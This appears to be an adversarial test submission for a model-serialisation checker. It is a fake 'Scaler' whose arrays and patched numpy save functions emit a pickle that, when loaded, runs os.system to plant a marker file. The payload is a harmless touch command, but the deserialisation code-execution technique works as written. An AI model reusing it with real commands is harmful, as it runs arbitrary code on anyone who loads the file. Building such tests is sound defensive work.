# ---
# class: poisoned pickles
# tries: "arrays whose bytes are a pickle: object dtype, hostile `dtype`, `tobytes` and file headers"
# success: something planted
# ---

# %% solution="scaler"
import io
import os
import pickle

import numpy as np


class Poison:
    def __reduce__(self):
        return os.system, ("touch @MARKS@/planted-by-@NAME@",)


class Bytes(np.ndarray):
    def tobytes(self, *args, **kwargs):
        return pickle.dumps(Poison())

    def __reduce__(self):
        return Poison().__reduce__()

    def dump(self, file):
        file.write(pickle.dumps(Poison()))


file = io.BytesIO()
np.save(file, np.array([Poison()], dtype=object), allow_pickle=True)
np.save = np.lib.format.write_array = lambda where, *args, **kwargs: where.write(file.getvalue())


class Scaler:
    mean_ = np.zeros(2).view(Bytes)

    def fit(self, X):
        return self

    def transform(self, X):
        return np.zeros(X.shape).view(Bytes)
